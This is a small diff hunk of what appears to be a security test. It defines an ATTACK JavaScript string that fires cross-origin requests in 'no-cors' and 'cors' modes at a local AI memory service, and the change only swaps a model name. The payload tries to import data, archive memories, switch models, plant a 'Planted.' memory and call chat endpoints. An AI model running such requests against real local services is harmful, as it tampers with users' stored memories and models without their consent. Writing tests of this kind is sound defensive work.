@@ -31,7 +31,7 @@ ATTACK = """async ([url, line, id]) => {
     for (const kind of [...simple, "application/json", ""])
         for (const mode of ["no-cors", "cors"])
             for (const [path, body] of [
-                ["/v1/import", line], [`/v1/memories/${id}/archive`, "{}"], ["/v1/models/minilm/use", "{}"],
+                ["/v1/import", line], [`/v1/memories/${id}/archive`, "{}"], ["/v1/models/bge/use", "{}"],
                 ["/v1/memories", '{"content": "Planted."}'],
                 ["/openai/v1/chat/completions", '{"model": "m", "messages": [{"role": "user", "content": "Hi"}]}'],
                 ["/anthropic/v1/messages", '{"model": "m", "messages": [{"role": "user", "content": "Hi"}]}'],
